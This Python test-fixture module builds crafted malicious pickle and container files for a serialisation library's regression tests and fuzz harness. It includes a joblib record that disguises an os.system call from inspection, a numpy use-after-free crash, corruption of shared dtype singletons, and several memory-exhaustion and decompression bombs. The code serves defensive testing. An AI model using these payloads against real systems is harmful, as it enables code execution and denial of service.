"""Crafted malicious and damaged inputs, byte by byte: the findings of issue 25.

Each builder returns the bytes of one file. The regression tests load them
(``test_crafted.py``) and the fuzz harness mutates them (``_persist_fuzz.py``).
Standard library only, plus numpy's names written as text (never imported).
"""

from __future__ import annotations

import bz2
import gzip
import struct
import zlib

# -- a small pickle assembler (protocols 2 and 3)


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def raw(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def integer(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def tup(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def put(index: int) -> bytes:
    return b"r" + struct.pack("<I", index)


def get(index: int) -> bytes:
    return b"j" + struct.pack("<I", index)


NONE, TRUE, FALSE = b"N", b"\x88", b"\x89"
REDUCE, BUILD, STOP, POP, APPEND, EMPTY_LIST = b"R", b"b", b".", b"0", b"a", b"]"
PROTO3 = b"\x80\x03"
MULTIARRAY = "numpy._core.multiarray"
NUMERIC = "numpy._core.numeric"


def dtype(spec: str, copy: bool = True, state_elsize: int = -1) -> bytes:
    """``numpy.dtype(spec, False, copy)`` then BUILD the state numpy writes."""
    state = (
        b"(" + integer(3) + text("|") + NONE + NONE + NONE
        + integer(state_elsize) + integer(-1) + integer(0) + b"t"
    )  # fmt: skip
    call = glob("numpy", "dtype") + tup(text(spec), FALSE, TRUE if copy else FALSE)
    return call + REDUCE + state + BUILD


def array_state(shape: int, kind: bytes, data: bytes) -> bytes:
    """The BUILD state numpy writes for a 1-d array: (1, shape, dtype, fortran, data)."""
    return tup(integer(1), tup(integer(shape)), kind, FALSE, raw(data))


def reconstruct() -> bytes:
    return glob(MULTIARRAY, "_reconstruct") + tup(
        glob("numpy", "ndarray"), tup(integer(0)), raw(b"b")
    ) + REDUCE  # fmt: skip


# -- the findings


def array_rebuild_frees_a_view(nbytes: int = 1 << 20) -> bytes:
    """BUILD applied twice to one array, a view of its first buffer in between.

    numpy's ``ndarray.__setstate__`` replaces the buffer and frees the old one,
    which the view still points into: reading the view crashed the process.
    """
    u1 = dtype("u1")
    return (
        PROTO3 + EMPTY_LIST
        + reconstruct() + put(0) + array_state(nbytes, u1, b"\x01" * nbytes) + BUILD
        + POP + glob(NUMERIC, "_frombuffer")
        + tup(get(0), dtype("u1"), tup(integer(nbytes)), text("C")) + REDUCE
        + APPEND
        + get(0) + array_state(1, dtype("u1"), b"\x02") + BUILD + POP
        + STOP
    )  # fmt: skip


def singleton_dtype_builds() -> list[bytes]:
    """Streams that use numpy's shared ``dtype('S')``, ``('U')``, ``('V')`` objects.

    ``numpy.dtype(kind, False, False)`` is the process-wide instance; a BUILD on
    it, or an array or scalar built on it, must never change it.
    """
    streams = []
    for kind in ("S", "U", "V"):
        for elsize in (1, 4, 8):
            streams.append(PROTO3 + dtype(kind, copy=False, state_elsize=elsize) + STOP)
        streams.append(
            PROTO3 + reconstruct()
            + array_state(3, glob("numpy", "dtype") + tup(text(kind), FALSE, FALSE)
                          + REDUCE, b"abc") + BUILD + STOP
        )  # fmt: skip
        streams.append(
            PROTO3 + glob(MULTIARRAY, "scalar")
            + tup(glob("numpy", "dtype") + tup(text(kind), FALSE, FALSE) + REDUCE,
                  raw(b"abcd")) + REDUCE + STOP
        )  # fmt: skip
    return streams


def singleton_dtype_scalar(kind: str) -> bytes:
    """``scalar(numpy.dtype(kind))``, no data: 57 bytes for ``'S'``.

    numpy's ``scalar`` given only an unsized flexible dtype sets that dtype's
    item size to 1 in place before building the empty scalar; on the shared
    instance, every later ``dtype='S'`` array of the process held one byte.
    """
    shared = glob("numpy", "dtype") + text(kind) + b"\x85" + REDUCE  # TUPLE1
    return b"\x80\x02" + glob(MULTIARRAY, "scalar") + shared + b"\x85" + REDUCE + STOP


def joblib_record_with_lying_dtype(command: str = "echo owned") -> bytes:
    """A joblib array record whose dtype reads 'int32' but whose state is 'object'.

    A trusted load applies the state (numpy believes it), takes the record for
    an object array and runs the nested pickle stream that follows: it imports
    and calls ``os.system``. inspect used to list only numpy's names.
    """
    object_state = (
        b"(" + integer(3) + text("|") + NONE + NONE + NONE
        + integer(8) + integer(8) + integer(63) + b"t"
    )  # fmt: skip
    lying = glob("numpy", "dtype") + tup(text("i4"), FALSE, TRUE) + REDUCE
    lying += object_state + BUILD
    state = (
        b"}(" + text("subclass") + glob("numpy", "ndarray")
        + text("shape") + tup(integer(1)) + text("order") + text("C")
        + text("dtype") + lying + text("allow_mmap") + FALSE + b"u"
    )  # fmt: skip
    record = glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + BUILD
    # The nested stream, read two ways. A trusted load parses it from its first
    # byte: PROTO, NONE POP NONE POP NONE, then a SHORT_BINSTRING whose length
    # byte is the "X" at offset 8 hides the 88 bytes after it, and the call of
    # os.system follows. inspect skipped the 8 bytes an 'int32'-looking record
    # of itemsize 8 holds, read that "X" as a BINUNICODE opcode, and took the
    # call for that string's text.
    call = b"00" + glob("os", "system") + b"(U" + bytes([len(command)])
    call += command.encode() + b"tR" + STOP
    hidden_length = 88 - 4 + len(call)
    nested = b"\x80\x02N0N0NUX" + struct.pack("<I", hidden_length)
    nested += b"a" * (88 - 4) + call
    assert nested[8:9] == b"X"
    assert all(byte < 128 for byte in nested[9:97])  # a protocol-2 string: ASCII
    return b"\x80\x02" + record + nested + STOP


def _joblet_file(
    table: bytes, pickled: bytes, version: int = 2, codec: str = "", chunk: int = 0,
    pickle_len: int | None = None, buffers_len: int = 0,
) -> bytes:  # fmt: skip
    header = struct.pack(
        "<8sHH16sbxxxIQQQQ",
        b"\x89JOBLET\n",
        version,
        1 if codec else 0,
        codec.encode(),
        -1,
        zlib.crc32(pickled, zlib.crc32(table)),
        len(table),
        len(pickled) if pickle_len is None else pickle_len,
        buffers_len,
        chunk,
    )
    return header + table + pickled


def legacy_header_zero_fill(pickle_len: int = 700 << 20, chunk: int = 1 << 20) -> bytes:
    """A version-1 (0.1 compressed container) header announcing a huge pickle stream.

    98 bytes made load and inspect zero-fill ``pickle_len`` bytes up front (and,
    with a huge ``chunk``, decode one chunk of that size at once).
    """
    table = b'{"buffers":[]}'
    return _joblet_file(
        table, b"", version=1, codec="zlib", chunk=chunk, pickle_len=pickle_len
    )


def compressed_huge_buffer(nbytes: int = 700 << 20, kind: str = "buffer") -> bytes:
    """A gzip-compressed joblet file whose table declares one huge buffer.

    Decompressed, it holds no buffer bytes at all: a load allocated (and
    zero-filled) the declared size before finding the stream's end.
    """
    entry = f'{{"kind":"{kind}","nbytes":{nbytes},"offset":0'
    if kind == "array":
        entry += f',"dtype":"|u1","shape":[{nbytes}],"order":"C"'
    table = ('{"writer":"x","buffers":[' + entry + "}]}").encode()
    pickled = b"\x80\x05\x97."  # NEXT_BUFFER, STOP
    return gzip.compress(_joblet_file(table, pickled, buffers_len=nbytes))


def items_not_bytes(items: int = 10**5, itemsize: int = 4096) -> bytes:
    """``numpy.ndarray((items,), 'V4096')``: few items, each of many bytes."""
    return (
        PROTO3 + glob("numpy", "ndarray")
        + tup(tup(integer(items)), text(f"V{itemsize}")) + REDUCE + STOP
    )  # fmt: skip


def memo_repetition(size: int = 10**6, times: int = 100) -> bytes:
    """One ``range`` in the memo, materialised by ``list()`` ``times`` times."""
    made = glob("builtins", "range") + tup(integer(size)) + REDUCE + put(0)
    calls = b"".join(
        glob("builtins", "list") + tup(get(0)) + REDUCE for _ in range(times)
    )
    return PROTO3 + b"(" + made + calls + b"l" + STOP


def one_stream_bz2_bomb(dumped: bytes) -> bytes:
    """``dumped`` (a joblet file of zeros) as the ``bzip2`` tool writes it: one stream."""
    return bz2.compress(dumped, 9)


def missing_module() -> bytes:
    return b"\x80\x02" + glob("joblet_no_such_module_xyz", "thing") + STOP


def dtype_syntax_error() -> bytes:
    """numpy parses ``'(2,i4'`` with ``ast`` and raises SyntaxError."""
    return (
        b"\x80\x02"
        + glob("numpy", "dtype")
        + tup(text("(2,i4"), FALSE, TRUE)
        + REDUCE
        + STOP
    )
